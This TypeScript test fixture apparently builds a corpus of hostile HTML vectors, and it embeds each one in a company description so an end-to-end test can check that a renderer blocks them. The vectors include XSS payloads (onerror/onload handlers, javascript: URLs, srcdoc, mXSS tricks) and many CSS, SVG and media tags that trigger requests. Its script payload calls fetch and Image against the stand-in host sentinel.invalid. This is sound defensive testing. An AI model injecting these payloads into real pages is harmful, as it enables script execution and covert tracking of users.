// The hostile-description corpus: every vector becomes the desc of company `hostile-vector_<n>` (n from 1), so the
// end-to-end test can render each one alone. Remote hosts are all under .invalid: nothing real is ever contacted.
import type { DataLang } from './prng';
import { BLNS_SCRIPT_INJECTION } from './blns-script-injection';
import { companyBase } from './edge-basic';

export interface HostileVector {
  /** Where it comes from: the naughty-strings list, or which way of making a request it tries. */
  source: 'blns' | 'own';
  /** For own vectors: the request or script channel it tries (img/srcset, css-url, ...). */
  channel: string;
  html: string;
  /** True when the vector tries to load something over the network (checked again after "Load images"). */
  requests: boolean;
}

const SENTINEL = 'https://sentinel.invalid';

/** Script that would prove execution every way a test can see: a dialog, a call into the top page, a request. */
function run(tag: string): string {
  return `alert('${tag}');window.top.__pwned('${tag}');fetch('${SENTINEL}/run/${tag}');new Image().src='${SENTINEL}/img/${tag}'`;
}

/** Our own vectors: one (or more) per way HTML can make a request or run a script. `{u}` is a sentinel URL, `{js}` a payload. */
const OWN: readonly [channel: string, template: string][] = [
  ['img', '<img src="{u}" alt="pixel">'],
  ['img/protocol-relative', '<img src="//sentinel.invalid/{n}/pr.gif" alt="pr">'],
  ['img/srcset', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="{u} 1x, {u}-2x 2x" alt="srcset">'],
  ['picture/source-srcset', '<picture><source srcset="{u}" media="(min-width: 1px)"><img src="data:," alt="pic"></picture>'],
  ['img/onerror', '<img src="x" onerror="{js}" alt="onerror">'],
  ['img/relative', '<img src="relative-{n}.gif" alt="relative">'],
  ['css-url/inline-style', '<p style="background-image:url(\'{u}\')">inline background</p>'],
  ['css-url/image-set', '<p style="background-image:image-set(\'{u}\' 1x)">image-set</p>'],
  ['css-url/list-style', '<ul style="list-style-image:url({u})"><li>item</li></ul>'],
  ['css-url/cursor', '<p style="cursor:url({u}),auto">cursor</p>'],
  ['css-url/style-tag', '<style>.x{background:url("{u}")}</style><p class="x">style tag</p>'],
  ['css/@import', '<style>@import url("{u}.css");</style>'],
  ['css/@font-face', '<style>@font-face{font-family:f;src:url("{u}.woff2")}p{font-family:f}</style><p>font</p>'],
  ['link/stylesheet', '<link rel="stylesheet" href="{u}.css">'],
  ['link/preload', '<link rel="preload" as="image" href="{u}">'],
  ['link/prefetch', '<link rel="prefetch" href="{u}">'],
  ['link/icon', '<link rel="icon" href="{u}.ico">'],
  ['link/dns-prefetch', '<link rel="dns-prefetch" href="{u}">'],
  ['meta/refresh', '<meta http-equiv="refresh" content="0;url={u}">'],
  ['meta/refresh-javascript', '<meta http-equiv="refresh" content="0;url=javascript:{js}">'],
  ['base', '<base href="{u}/"><img src="via-base.gif" alt="base"><a href="via-base">link</a>'],
  ['object', '<object data="{u}.swf" type="application/x-shockwave-flash"></object>'],
  ['object/data-html', '<object data="data:text/html,<script>{js}</script>"></object>'],
  ['embed', '<embed src="{u}.swf">'],
  ['embed/javascript', '<embed src="javascript:{js}">'],
  ['iframe', '<iframe src="{u}.html"></iframe>'],
  ['iframe/srcdoc', '<iframe srcdoc="<script>{js}</script>"></iframe>'],
  ['iframe/javascript', '<iframe src="javascript:{js}"></iframe>'],
  ['frameset', '<frameset><frame src="{u}.html"></frameset>'],
  ['form/action', '<form action="{u}" method="post"><input name="q" value="x"><button>send</button></form>'],
  ['form/autofocus', '<input autofocus onfocus="{js}">'],
  ['form/formaction', '<form><button formaction="{u}">go</button></form>'],
  ['form/input-image', '<input type="image" src="{u}" alt="input image">'],
  ['video/poster', '<video poster="{u}.jpg" controls></video>'],
  ['video/src', '<video src="{u}.mp4" autoplay muted></video>'],
  ['video/source', '<video autoplay muted><source src="{u}.webm" type="video/webm"><track src="{u}.vtt" default></video>'],
  ['audio', '<audio src="{u}.mp3" autoplay></audio>'],
  ['svg/image', '<svg width="10" height="10"><image href="{u}.png" width="10" height="10"/></svg>'],
  ['svg/xlink-image', '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{u}.png" width="5" height="5"/></svg>'],
  ['svg/use', '<svg><use href="{u}.svg#x"/></svg>'],
  ['svg/onload', '<svg onload="{js}"></svg>'],
  ['svg/script', '<svg><script>{js}</script></svg>'],
  ['svg/animate-href', '<svg><a><animate attributeName="href" to="javascript:{js}"/><text y="10">x</text></a></svg>'],
  ['svg/feimage', '<svg><filter id="f"><feImage href="{u}.png"/></filter></svg>'],
  ['background/table', '<table background="{u}.png"><tr><td background="{u}-td.png">cell</td></tr></table>'],
  ['background/body', '<body background="{u}.png">'],
  ['a/ping', '<a href="#x" ping="{u}">ping</a>'],
  ['script/src', '<script src="{u}.js"></script>'],
  ['script/inline', '<script>{js}</script>'],
  ['script/module', '<script type="module">{js}</script>'],
  ['details/ontoggle', '<details open ontoggle="{js}"><summary>d</summary></details>'],
  ['body/onload', '<body onload="{js}">'],
  ['marquee/onstart', '<marquee onstart="{js}">m</marquee>'],
  ['math/href', '<math><mtext><a href="javascript:{js}">math</a></mtext></math>'],
  ['mxss/namespace', '<math><mtext><table><mglyph><style><img src=x onerror="{js}"></style></mglyph></table></mtext></math>'],
  ['mxss/noscript', '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>'],
  ['template', '<template><img src="{u}" onerror="{js}"></template>'],
  ['bgsound', '<bgsound src="{u}.wav">'],
  ['image-tag', '<image src="{u}.png">'],
  ['portal', '<portal src="{u}.html"></portal>'],
  // SVG resources and CSS url()s fetch documents (resource type "other") under img-src once images are allowed.
  ['svg-ref/clip-path', '<svg><rect width="9" height="9" clip-path="url({u}.svg#c)"/></svg>'],
  ['svg-ref/paint', '<svg><rect width="9" height="9" fill="url({u}.svg#g) red" stroke="url({u}-s.svg#s)"/></svg>'],
  ['svg-ref/marker', '<svg><path d="M0 0L9 9" marker-start="url({u}.svg#m)" marker-mid="url({u}-mid.svg#m)" marker-end="url({u}-end.svg#m)"/></svg>'],
  ['svg-ref/mask-filter', '<svg><g mask="url({u}.svg#m)" filter="url({u}-f.svg#f)"><circle r="3"/></g></svg>'],
  ['svg-ref/gradient-href', '<svg><linearGradient id="g{n}" href="{u}.svg#g"/><rect width="9" height="9" fill="url(#g{n})"/></svg>'],
  ['css-url/clip-path', '<p style="clip-path:url({u}.svg#c)">clip-path</p>'],
  ['css-url/escaped', '<p style="clip-path:u\\72 l({u}.svg#c)">escaped url</p>'],
  ['css-url/svg-style-attr', '<svg><rect width="9" height="9" style="filter:url({u}.svg#f)"/></svg>'],
];

function own(n: number, channel: string, template: string): HostileVector {
  const tag = `own${n}`;
  const html = template.replaceAll('{u}', `${SENTINEL}/${tag}`).replaceAll('{n}', tag).replaceAll('{js}', run(tag));
  return { source: 'own', channel, html, requests: /sentinel\.invalid|relative-/.test(template.replaceAll('{u}', SENTINEL)) };
}

export const HOSTILE_VECTORS: readonly HostileVector[] = [
  ...BLNS_SCRIPT_INJECTION.map((html) => ({ source: 'blns' as const, channel: 'script-injection', html, requests: /https?:|\/\//.test(html) })),
  ...OWN.map(([channel, template], i) => own(i + 1, channel, template)),
];

export const HOSTILE_VECTOR_PREFIX = 'hostile-vector_';

/** The vector an item_id selects (hostile-vector_1 is the first), or undefined. */
export function hostileVectorAt(itemId: string): HostileVector | undefined {
  const m = /^hostile-vector_([1-9][0-9]{0,3})$/.exec(itemId);
  return m?.[1] ? HOSTILE_VECTORS[Number(m[1]) - 1] : undefined;
}

/** A company listing whose desc is a heading naming the vector, then the vector alone. */
export function hostileVectorCompany(id: string, lang: DataLang): Record<string, unknown> | undefined {
  const vector = hostileVectorAt(id);
  if (!vector) return undefined;
  return { ...companyBase(5, id, lang), desc: `<h1>${id}</h1>\n${vector.html}\n<p>end of ${id}</p>` };
}
